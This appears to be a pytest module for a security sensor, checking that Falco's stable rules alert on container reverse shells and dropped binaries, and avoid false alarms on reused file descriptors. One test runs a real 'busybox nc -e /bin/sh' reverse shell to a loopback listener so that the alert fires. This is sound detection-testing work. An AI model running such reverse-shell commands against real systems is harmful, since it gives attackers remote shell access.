"""Falco's stable rules (falco_rules.yaml) against the live capture: what they must raise and what
they must not, in a container-shaped cgroup (a real cgroup v2 directory named as Docker names it).

One sensor serves the tests of this module; each test acts in child processes marked in their
command line and waits until the sensor has matched everything before it.
"""

from __future__ import annotations

import os
import shlex
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import compat_file
from live_sensor import LiveSensor

pytestmark = pytest.mark.ebpf
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
DROPPED = "Drop and execute new binary in container"


@pytest.fixture(scope="module")
def stable(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveSensor]:
    with LiveSensor(tmp_path_factory.mktemp("stable"), [compat_file("falco_rules.yaml")]) as sensor:
        sensor.wait_ready()
        yield sensor


@pytest.fixture(scope="module")
def container() -> Iterator[Any]:
    from sensor.generate import FakeContainer

    c = FakeContainer("docker")
    yield c
    c.remove()


def into(c: Any) -> Callable[[], None]:
    """preexec_fn: move the child into the container's cgroup before it runs anything."""
    return lambda: (c.path / "cgroup.procs").write_text(str(os.getpid()))


def mine(sensor: LiveSensor, rule: str, marker: str) -> list[dict[str, Any]]:
    return [a for a in sensor.alerts()
            if a["rule"] == rule and marker in (a["output_fields"].get("proc.cmdline") or "")]


class Listener:
    """A loopback TCP listener that accepts, says `exit`, and closes."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            try:
                c.sendall(b"exit\n")
                time.sleep(0.2)
            finally:
                c.close()

    def close(self) -> None:
        self.sock.close()


REPLACEMENTS = {
    "pipe": "fd, _w = os.pipe()",
    "file": "fd = os.open('/etc/hostname', os.O_RDONLY)",
    "eventfd": "fd = os.eventfd(0)",
}


@pytest.mark.parametrize("where", ["parent", "forked child"])
@pytest.mark.parametrize("replacement", list(REPLACEMENTS))
def test_a_reused_socket_number_dup2_onto_stdin_is_no_redirect_to_the_network(
        stable: LiveSensor, container: Any, replacement: str, where: str) -> None:
    # issue 20: close is not traced, so the table still holds the closed socket under its number;
    # the kernel's view of the fd at dup2 must show that something else has that number now.
    listener = Listener()
    marker = f"reuse-{replacement}-{where.replace(' ', '-')}-{time.monotonic_ns()}"
    code = (f"import os, socket, sys\nc = socket.create_connection(('127.0.0.1', {listener.port}))\n"
            f"n = c.fileno()\nc.close()\n{REPLACEMENTS[replacement]}\nassert fd == n, (fd, n)\n")
    if where == "parent":
        code += "os.dup2(fd, 0)\n"
    else:
        code += "pid = os.fork()\nif pid == 0:\n    os.dup2(fd, 0)\n    os._exit(0)\nos.waitpid(pid, 0)\n"
    try:
        subprocess.run([sys.executable, "-c", code, marker], check=True, preexec_fn=into(container),
                       stdin=subprocess.DEVNULL)
        stable.barrier()
    finally:
        listener.close()
    assert mine(stable, REDIRECT, marker) == []


def test_a_reverse_shell_still_raises_the_redirect_alert(stable: LiveSensor, container: Any) -> None:
    # busybox nc -e: connect, dup2 the socket onto 0, 1 and 2, exec a shell.
    listener = Listener()
    try:
        subprocess.run(["busybox", "nc", "127.0.0.1", str(listener.port), "-e", "/bin/sh"], timeout=30,
                       preexec_fn=into(container), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
        stable.barrier()
    finally:
        listener.close()
    hits = [a for a in stable.alerts() if a["rule"] == REDIRECT
            and f"127.0.0.1:{listener.port}" in a["output_fields"]["fd.name"]]
    assert hits, [a["rule"] for a in stable.alerts()]
    assert {a["output_fields"]["fd.type"] for a in hits} == {"ipv4"}
    assert all(a["output_fields"]["container.id"] == container.id for a in hits if "container.id" in a["output_fields"])


def test_a_binary_dropped_into_an_overlay_upper_layer_raises_the_alert(stable: LiveSensor, container: Any) -> None:
    # An overlayfs in a private mount namespace: a binary that was in the lower layer, and one
    # copied in through the merged view (so it lives in the upper layer), both run in the container.
    marker = f"overlay-{time.monotonic_ns()}"
    base = Path(tempfile.mkdtemp(prefix="falconet-ovl-"))
    try:
        for d in ("lower", "upper", "work", "merged"):
            (base / d).mkdir()
        subprocess.run(["cp", "/bin/true", str(base / "lower" / "from-image")], check=True)
        m = shlex.quote(str(base / "merged"))
        script = (f"mount -t overlay overlay -o lowerdir={base}/lower,upperdir={base}/upper,workdir={base}/work {m}"
                  f" && cp /bin/true {m}/dropped && {m}/from-image {marker} && {m}/dropped {marker}")
        subprocess.run(["unshare", "-m", "sh", "-c", script], check=True, preexec_fn=into(container))
        stable.barrier()
    finally:
        subprocess.run(["rm", "-rf", str(base)], check=False)
    hits = mine(stable, DROPPED, marker)
    assert [a["output_fields"]["proc.exepath"].rsplit("/", 1)[-1] for a in hits] == ["dropped"]
    (hit,) = hits
    # the executable's inode times are read from the kernel at exec
    ctime = hit["output_fields"]["proc.exe_ino.ctime"]
    assert isinstance(ctime, int) and abs(ctime - time.time_ns()) < 120 * 10**9


def test_the_open_close_loop_loses_nothing_under_the_stable_rules(tmp_path: Path) -> None:
    # issue 20: with Falco's stable rules the sensor was blind for half of a busy workload. Ten
    # seconds of the tightest open/close loop: every open the rules can see is judged in the
    # kernel, and the summary counts no drop.
    target = tmp_path / "file"
    target.write_text("x")
    with LiveSensor(tmp_path, [compat_file("falco_rules.yaml")]) as sensor:
        sensor.wait_ready()
        out = subprocess.run([sys.executable, "-c",
                              f"import os, time\nend, n = time.monotonic() + 10, 0\nwhile time.monotonic() < end:\n"
                              f"    for _ in range(1000):\n        os.close(os.open({str(target)!r}, os.O_RDONLY))\n"
                              "    n += 1000\nprint(n)"], capture_output=True, text=True, check=True)
        sensor.barrier()
        summary = sensor.stop()
    assert int(out.stdout) > 100_000                 # the loop did run at full speed
    assert summary["drops"] == 0, sensor.stderr()[-2000:]
